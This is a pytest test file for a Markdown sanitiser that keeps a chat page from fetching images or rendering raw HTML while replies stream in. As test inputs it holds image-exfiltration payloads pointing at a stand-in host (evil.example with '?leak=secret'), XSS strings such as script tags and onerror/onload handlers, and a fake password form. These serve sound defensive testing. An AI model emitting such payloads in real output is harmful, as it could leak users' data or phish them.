"""Tests for services/markdown.py (and services/marked.py, its model of the page's renderer): images become links,
raw HTML shows as text, code stays as written where the page's renderer reads code, all in linear time, and a
reply rendered as it streams in gets what rendering it whole gets."""

from __future__ import annotations

import gc
import random
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.markdown import MarkdownStream, safe_markdown
from services.marked import MAX_BACKTICKS
from tests.support.pathological import PATHOLOGICAL

pytestmark = pytest.mark.unit

# A CommonMark renderer, a second opinion on what comes out (the page's own is marked: tests/test_markdown_browser.py).
RENDER = MarkdownIt("commonmark").render


def rendered_tags(text: str) -> set[str]:
    """The HTML tag names the rendered Markdown of `text` holds."""
    return {name.lower() for name in re.findall(r"<([A-Za-z][A-Za-z0-9]*)", RENDER(text))}


class TestFastPath:
    @pytest.mark.parametrize("text", ["", "Hello, world.", "a > b", "# Title\n\n* item `code`", "[1]: http://x"])
    def test_text_without_bang_or_angle_is_returned_as_is(self, text):
        """The common case on every streamed update costs nothing: the very same string comes back."""
        assert safe_markdown(text) is text

    @pytest.mark.parametrize("text", ["Hello!", "wow! [link](http://x)", "x = !y"])
    def test_a_bang_that_makes_no_image_is_left_alone(self, text):
        assert safe_markdown(text) == text


class TestEscaping:
    CASES = (
        ("a < b and 3<4", "a &lt; b and 3&lt;4"),
        ("x <- y", "x &lt;- y"),
        ("<a@b.co>", "&lt;a@b.co>"),  # marked's email autolink starts with `<` and a character that is no letter
        ("<https://x>", "&lt;https://x>"),
    )

    @pytest.mark.parametrize(("text", "expected"), CASES)
    def test_every_angle_outside_code_is_escaped(self, text, expected):
        """Not only tags: with no `<` left, the page's renderer meets no HTML and no autolink at all, whatever
        follows the `<` (it shows the same)."""
        assert safe_markdown(text) == expected


class TestImages:
    CASES = (
        ("![alt](http://x/a.png)", "\u200b[alt](http://x/a.png)"),  # an inline image, at a line's start
        ('see ![alt](http://x/a.png "title")', 'see [alt](http://x/a.png "title")'),  # with a title
        ("see ![a][ref]\n\n[ref]: http://x/y.png", "see [a][ref]\n\n\\[ref]: http://x/y.png"),  # a reference image
        ("![a](u) and ![b](v)", "\u200b[a](u) and [b](v)"),  # several
        ("- ![x](u)", "- \u200b[x](u)"),  # in a list item
        ("[![badge](http://x/b.svg)](http://x)", "[[badge](http://x/b.svg)](http://x)"),  # an image in a link
    )

    @pytest.mark.parametrize(("text", "expected"), CASES)
    def test_markdown_images_become_links(self, text, expected):
        """The `!` that makes a link an image goes (at a line's start, for an invisible mark, so that the line
        does not start with `[`): the URL is shown, fetched only if clicked."""
        assert safe_markdown(text) == expected

    @pytest.mark.parametrize("text", ["[ref]: http://x/y.png", "  - [ref]: http://x\n", "- [ ] [r]: http://x"])
    def test_link_reference_definitions_are_shown(self, text):
        """A definition's label may run over any number of lines, so its reading would depend on text still to
        come: its `[` is escaped instead, and the line shows as written."""
        assert "\\[" in safe_markdown(text + " <b>")

    MEDIA = (
        ('<img src="http://x/a.png">', "[image link](http://x/a.png)"),  # double quotes
        ("<img alt=x src='http://x/a.png' />", "[image link](http://x/a.png)"),  # single quotes, self-closing
        ("<img src=http://x/a.png>", "[image link](http://x/a.png)"),  # no quotes
        ('<IMG SRC="http://x/a.png">', "[image link](http://x/a.png)"),  # upper case
        ('<img src="http://x/a b(1).png">', "[image link](http://x/a%20b%281%29.png)"),  # link breakers encoded
        ('<img src="  http://x/a.png ">', "[image link](http://x/a.png)"),  # spaces around the URL
        ("<video poster=http://x/p.jpg controls>", "[image link](http://x/p.jpg)"),  # a video's poster
        ('<source src="http://x/v.mp4">', "[image link](http://x/v.mp4)"),  # a media source
        ('<iframe src="http://x/page"></iframe>', "[image link](http://x/page)&lt;/iframe>"),  # a frame
        ('<object data="http://x/o.swf">', "[image link](http://x/o.swf)"),  # an object
        ('<embed src="http://x/e">', "[image link](http://x/e)"),  # an embed
        ('<audio src="http://x/s.mp3">', "[image link](http://x/s.mp3)"),  # audio
        ("text <img src=u> text", "text [image link](u) text"),  # inside a sentence
        ('!!<img src="http://x/a.png">', "\u200b[image link](http://x/a.png)"),  # `!`s before it: no image either
    )

    @pytest.mark.parametrize(("text", "expected"), MEDIA)
    def test_html_media_become_links(self, text, expected):
        """An `<img>`, `<video>` or other media tag with a source becomes a link to that source."""
        assert safe_markdown(text) == expected

    @pytest.mark.parametrize(
        "text",
        [
            "<img onerror=alert(1)>",  # no source to link to
            '<img src="">',  # an empty one
            '<img src="http://x/a<2>.png">',  # a `<` inside: the tag is not one piece
            '<img src=u alt="$$">',  # a `$` inside: it could pair with Gradio's latex delimiters
        ],
    )
    def test_other_media_tags_are_shown_as_text(self, text):
        assert safe_markdown(text) == text.replace("<", "&lt;")


class TestRawHtml:
    CASES = (
        ("<b>bold</b>", "&lt;b>bold&lt;/b>"),  # a pair of tags
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),  # a script
        ('<a href="http://x" onclick="f()">x</a>', '&lt;a href="http://x" onclick="f()">x&lt;/a>'),  # a raw link
        ("<!-- hidden -->", "&lt;!-- hidden -->"),  # a comment
        ("<!DOCTYPE html>", "&lt;!DOCTYPE html>"),  # a declaration
        ("<?php echo 1; ?>", "&lt;?php echo 1; ?>"),  # a processing instruction
        ("</div>", "&lt;/div>"),  # a closing tag alone
        ("<div>\n\n*x*\n\n</div>", "&lt;div>\n\n*x*\n\n&lt;/div>"),  # an HTML block around Markdown
        ("<svg onload=alert(1)>", "&lt;svg onload=alert(1)>"),
    )

    @pytest.mark.parametrize(("text", "expected"), CASES)
    def test_raw_html_is_escaped(self, text, expected):
        """Every tag's `<` becomes `&lt;`, so the tag shows as text."""
        assert safe_markdown(text) == expected


class TestCode:
    CASES = (
        "`<b>` and `![x](y)`",  # code spans
        "``a `<b>` c``",  # a span of two backticks holding one
        "```html\n<b>x</b>\n![i](u)\n```",  # a fenced block
        "~~~\n<img src=u>\n~~~",  # a tilde fence
        "```\n<b>open",  # a fence never closed runs to the end
        "````\n```\n<b>\n````",  # a shorter fence inside a longer one does not close it
        "   ```\n<b>\n   ```",  # fences indented up to three spaces
        "    <b>indented code</b>",  # indented code
        "Use `<div>` for blocks.",
        "**Tip:** wrap it in `<span>`.",  # emphasis before a span: it cannot end inside it
        "## The `<table>` element",
        "1. Install:\n   ```bash\n   npm i <pkg>\n   ```\n2. Run `<cmd>`",  # fences and spans in list items
        "- `<input>`: a form field\n- `<b>` bold",
        "| tag | use |\n|---|---|\n| `<td>` | cell |",  # a span in a table cell
        "See [docs](http://x) and `<a>`.",  # a link before a span
        "Text with *emphasis* and `Vec<String>` and `Option<T>`.",
        "> quote\n\n```\n<b>\n```",
    )

    @pytest.mark.parametrize("text", CASES)
    def test_code_is_untouched(self, text):
        """In code spans and blocks, `<` and `!` are already shown as text: nothing changes."""
        assert safe_markdown(text) == text

    MIXED = (
        ("`<b>` <b>", "`<b>` &lt;b>"),  # after a code span
        ("<i> `<b>`", "&lt;i> `<b>`"),  # before a code span
        ("```\n<b>\n```\n<i> ![x](y)", "```\n<b>\n```\n&lt;i> [x](y)"),  # after a closed fence
        ("~~~\n<x>\n~~~\n<y>", "~~~\n<x>\n~~~\n&lt;y>"),  # after a tilde fence
        ("````\n```\n<b>\n````\n<i>", "````\n```\n<b>\n````\n&lt;i>"),  # after a long fence
        ("x ```\n<b>y", "x ```\n&lt;b>y"),  # backticks mid-line open no fence
        ("``a``b`` <i>", "``a``b`` &lt;i>"),  # a span, then text with stray backticks
        ("`unclosed <b>", "`unclosed &lt;b>"),  # a lone backtick opens no span
    )

    @pytest.mark.parametrize(("text", "expected"), MIXED)
    def test_text_around_code_is_made_safe(self, text, expected):
        """Only the code itself is left as written; the text around it is made safe."""
        assert safe_markdown(text) == expected


class TestWhereThePageSeesNoCode:
    """Text CommonMark would read as code but the page's renderer (marked 12, after Gradio's `$$` pass) reads as
    text, or may: it is escaped. Each case left as code would render its HTML in the page."""

    CASES = (
        # The reported one: a backtick in a backtick fence's info string makes no fence, for marked too.
        "```x`\n<form action=https://elsewhere><input type=password>\n```",
        "$$`$$ <form> `",  # Gradio replaces `$$...$$` before marked: the opening backtick is gone
        "a `x $$ <form> `",  # a lone `$$` cuts marked's paragraph (then joins it with a line end)
        "| `a | <form>` |\n|---|---|",  # marked splits table cells at every `|`, backticks or not
        "*a ``b*`<form>``*",  # marked's emphasis can close inside a span (its mask pairs backticks otherwise)
        "[``](u) <b> ``",  # a link label pairs backticks its own way
        "~`<b>`",  # marked's text rule swallows a run of `~` and backticks
        "see http://x/`<b>`",  # gfm autolinks run over backticks to the next `<` or space
        "```\n```~\n```\n```\n<form>\n```",  # marked closes a fence at its marks then any `~` or backtick
        "`a\n+ \n<b>`",  # an empty list item interrupts marked's paragraph, not CommonMark's
        "`a\n<div>`",  # an HTML block start interrupts a paragraph: spans never cross lines here
        "> ```\n> <b>\n> ```",  # blockquotes hold no code here (their lazy lines differ)
        "-\t```\n  <b>\n  ```",  # marked reads this item after turning its tab into spaces: no code here
    )

    @pytest.mark.parametrize("text", CASES)
    def test_it_is_escaped(self, text):
        out = safe_markdown(text)
        assert "<form" not in out
        assert "<b>" not in out
        assert "<div" not in out

    def test_mermaid_blocks_are_plain_code(self):
        """mermaid renders HTML written in its labels (even as entities) as elements: a password form, a fixed
        overlay. The page's mermaid rule (```mermaid then a line end) no longer matches; it is plain code."""
        text = '```mermaid\ngraph TD\nA["&lt;form action=https://e&gt;&lt;input type=password&gt;"]\n```'
        out = safe_markdown(text)
        assert out.startswith("```mermaid\u200b\n")
        assert not re.search(r"^```mermaid\s*\n", out, re.MULTILINE)


class TestNothingFetched:
    ATTACKS = (
        "![x](https://evil.example/?leak=secret)",  # the plain exfiltration image
        "!![x](https://evil.example/?leak=secret)",  # two bangs: removing one must not leave an image
        '!!<img src="https://evil.example/?leak=secret">',  # two bangs before a media tag
        '`a\n\n<img src="https://evil.example/?leak=secret">\n\nb`',  # backticks across paragraphs: no code span
        '\\`<img src="https://evil.example/?leak=secret">\\`',  # escaped backticks make no code span
        '<IMG\nSRC="https://evil.example/?leak=secret">',  # a tag across lines
        "[![x](https://evil.example/i.png)](https://evil.example/)",  # an image inside a link
        "![x][r]\n\n[r]: https://evil.example/?leak=secret",  # a reference image
        '<svg><image href="https://evil.example/?leak=secret"/></svg>',  # SVG's image
    )

    @pytest.mark.parametrize("text", ATTACKS)
    def test_rendered_markdown_holds_no_image_and_no_raw_tag(self, text):
        """Rendered as CommonMark, what comes out holds no `<img>` and no tag that was not Markdown's own."""
        assert rendered_tags(safe_markdown(text)) <= {"p", "a", "code", "pre", "br"}


def _seconds(texts: list[str], rounds: int) -> list[float]:
    """The best time of `safe_markdown` on each text over `rounds` rounds (the sizes interleaved, so that a busy
    moment of a shared machine weighs on all of them alike). The collector is paused while it times: a collection
    of the whole test session's heap would land in one measurement and not another."""
    best = [float("inf")] * len(texts)
    gc.disable()
    try:
        for _ in range(rounds):
            for index, text in enumerate(texts):
                start = time.perf_counter()
                safe_markdown(text)
                best[index] = min(best[index], time.perf_counter() - start)
    finally:
        gc.enable()
    return best


class TestLinearTime:
    @pytest.mark.parametrize("name", PATHOLOGICAL)
    def test_time_grows_linearly(self, name):
        """At 2 KB, 20 KB and 200 KB: each tenfold size costs at most 35 times the time (quadratic work would
        cost 100; linear work measures 10 to 16 on shared cores, a busy moment more), and 200 KB well under a
        second (the old regexes took 24-117 s on 100 KB of `<img `). `bench/markdown.py` measures 1 MB."""
        make = PATHOLOGICAL[name]
        small, medium, large = _seconds([make(2 * 10**3), make(2 * 10**4), make(2 * 10**5)], rounds=2)
        assert large < 0.6
        assert medium <= 35 * max(small, 0.0004)
        assert large <= 35 * max(medium, 0.002)


HOSTILE = [
    "`", "``", "```", "~~~", "~", "$$", "$", "<b>", "<img src=http://e/x.png>", "<", "!", "![", "[", "]", "]:", "(",
    ")", "*", "_", "|", "-|-", "\n", "\n", "\n\n", "\r\n", "\t", "    ", "  ", " ", "- ", "1. ", "> ", "# ", "===",
    "---", "x", "ab", "http://", "\\", "```mermaid", "[ ] ", "\u2028",
]  # fmt: skip


class TestStreaming:
    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.sampled_from(HOSTILE), max_size=60).map("".join), st.lists(st.integers(1, 12), min_size=1))
    @example("a `x\n***\n`<b>`\n***\nc\n===", [1])  # an underline to come makes a heading of all before
    @example("$$ `<b>`\n\n- x\n\n`<i>` $$", [3])  # a `$$` pairs with one before what was kept
    @example(">d\n```<$$\n$$```", [1])  # ...and changes a line (no fence once paired) a checkpoint relied on
    @example("one `a`\ntwo `<b>`\nthree\nx|y\n-|-\n`<c>`|<d>\n\nend <g>", [1])  # a table after a paragraph
    def test_rendering_as_it_streams_gives_what_rendering_whole_gives(self, text, steps):
        """Fed the text a few characters at a time, at cut points drawn at random, each render equals
        `safe_markdown` of the text so far."""
        stream = MarkdownStream()
        cut, index = 0, 0
        while cut < len(text):
            cut = min(len(text), cut + steps[index % len(steps)])
            index += 1
            assert stream.render(text[:cut]) == safe_markdown(text[:cut])

    def test_a_text_that_does_not_extend_the_last_starts_over(self):
        stream = MarkdownStream()
        stream.render("```\n<b>\n")
        assert stream.render("<i> `<b>`") == "&lt;i> `<b>`"

    def test_a_long_reply_costs_linear_time(self):
        """A reply of paragraphs, code, lists and tables, 25 KB then 100 KB, fed 20 characters at a time: four
        times the text costs about four times the time (not sixteen), and far less than rendering it whole each
        time would."""
        block = (
            "## Step\n\nUse `<div>` and **bold** text with a [link](http://x.example/a).\n\n"
            '```html\n<div class="a">\n  <span>hi</span>\n</div>\n```\n\n'
            "1. First `<b>` item\n2. Second\n   ```js\n   const a = b < c;\n   ```\n\n"
            "| a | b |\n|---|---|\n| `<td>` | x |\n\n> a quote\n\n"
        )

        def streamed(size: int) -> float:
            text = (block * (size // len(block) + 1))[:size]
            stream = MarkdownStream()
            start = time.perf_counter()
            for cut in range(20, len(text) + 20, 20):
                stream.render(text[:cut])
            return time.perf_counter() - start

        quarter, whole = min(streamed(25_000) for _ in range(2)), min(streamed(100_000) for _ in range(2))
        assert whole <= 8 * quarter
        assert whole < 1.5

    def test_spans_past_the_backtick_budget_are_not_code(self):
        """Past `MAX_BACKTICKS` backticks in one paragraph nothing is code: the pairing work per update is
        bounded, and as a reply grows, what was code stays code."""
        text = "`<b>` " * (MAX_BACKTICKS // 2) + "`<i>`"
        out = safe_markdown(text)
        assert out.startswith("`<b>` `<b>`")
        assert out.endswith("`&lt;i>`")


class TestRandomStreams:
    def test_random_hostile_replies(self):
        """Longer random texts than the property test's, in random pieces (a fixed seed, for a stable run)."""
        rng = random.Random(7)
        for _ in range(60):
            text = "".join(rng.choice(HOSTILE) for _ in range(rng.randint(50, 300)))
            stream = MarkdownStream()
            cut = 0
            while cut < len(text):
                cut = min(len(text), cut + rng.randint(1, 30))
                assert stream.render(text[:cut]) == safe_markdown(text[:cut]), text[:cut]
